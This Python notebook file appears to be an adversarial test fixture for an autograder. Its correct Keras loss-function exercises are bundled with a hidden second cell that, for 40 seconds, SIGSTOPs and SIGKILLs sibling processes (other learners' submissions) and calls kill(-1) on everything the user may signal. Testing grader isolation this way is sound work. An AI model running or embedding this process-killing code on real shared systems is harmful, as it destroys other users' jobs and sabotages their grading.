"""For 40 s, SIGKILLs (and first SIGSTOPs) every process with its parent, and every process it may signal.

Under --jobs 2 its siblings are other learners' submissions, forked from the same zygote. Its own
exercises are correct: it should get 40 points, and so should everyone graded beside it.
"""
# batch: nothing
# %%
import keras
import numpy as np
from keras import ops


def mse(y_true, y_pred):
    y_pred = ops.convert_to_tensor(y_pred)
    y_true = ops.cast(y_true, y_pred.dtype)
    if len(y_true.shape) == 1 and len(y_pred.shape) == 2:    # (n,) with (n, 1): line up
        y_true = ops.expand_dims(y_true, -1)
    if len(y_pred.shape) == 1 and len(y_true.shape) == 2:
        y_pred = ops.expand_dims(y_pred, -1)
    return ops.mean(ops.square(y_pred - y_true), axis=-1)


def mae(y_true, y_pred):
    y_pred = ops.convert_to_tensor(y_pred)
    y_true = ops.cast(y_true, y_pred.dtype)
    if len(y_true.shape) == 1 and len(y_pred.shape) == 2:    # (n,) with (n, 1): line up
        y_true = ops.expand_dims(y_true, -1)
    if len(y_pred.shape) == 1 and len(y_true.shape) == 2:
        y_pred = ops.expand_dims(y_pred, -1)
    return ops.mean(ops.abs(y_pred - y_true), axis=-1)


def huber(y_true, y_pred, delta=1.0):
    y_pred = ops.convert_to_tensor(y_pred)
    y_true = ops.cast(y_true, y_pred.dtype)
    if len(y_true.shape) == 1 and len(y_pred.shape) == 2:    # (n,) with (n, 1): line up
        y_true = ops.expand_dims(y_true, -1)
    if len(y_pred.shape) == 1 and len(y_true.shape) == 2:
        y_pred = ops.expand_dims(y_pred, -1)
    delta = ops.cast(delta, y_pred.dtype)
    error = y_pred - y_true
    abs_error = ops.abs(error)
    return ops.mean(ops.where(abs_error <= delta, 0.5 * ops.square(error), delta * (abs_error - 0.5 * delta)), axis=-1)


def log_cosh(y_true, y_pred):
    y_pred = ops.convert_to_tensor(y_pred)
    y_true = ops.cast(y_true, y_pred.dtype)
    if len(y_true.shape) == 1 and len(y_pred.shape) == 2:    # (n,) with (n, 1): line up
        y_true = ops.expand_dims(y_true, -1)
    if len(y_pred.shape) == 1 and len(y_true.shape) == 2:
        y_pred = ops.expand_dims(y_pred, -1)
    error = y_pred - y_true
    return ops.mean(error + ops.softplus(-2.0 * error) - ops.cast(np.log(2.0), error.dtype), axis=-1)


def attack_ran():          # reading ATTACK ties the cell below to the exercises, so the grader runs it
    return ATTACK

# %%
ATTACK = "ran"
import os
import signal
import threading
import time


def ppid_of(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def siblings():
    me, parent, found = os.getpid(), os.getppid(), []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != me:
            try:
                if ppid_of(int(entry)) == parent:
                    found.append(int(entry))
            except (OSError, ValueError, IndexError):
                pass
    return found


def rampage():
    deadline = time.time() + 40
    while time.time() < deadline:
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            for pid in siblings():
                try:
                    os.kill(pid, sig)
                except OSError:
                    pass
        pid = os.fork()
        if pid == 0:                           # kill(-1): everything this user may signal
            for sig in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(-1, sig)
                except OSError:
                    pass
            os._exit(0)
        os.waitpid(pid, 0)
        time.sleep(0.05)


threading.Thread(target=rampage, daemon=True).start()
print("siblings in sight:", len(siblings()))
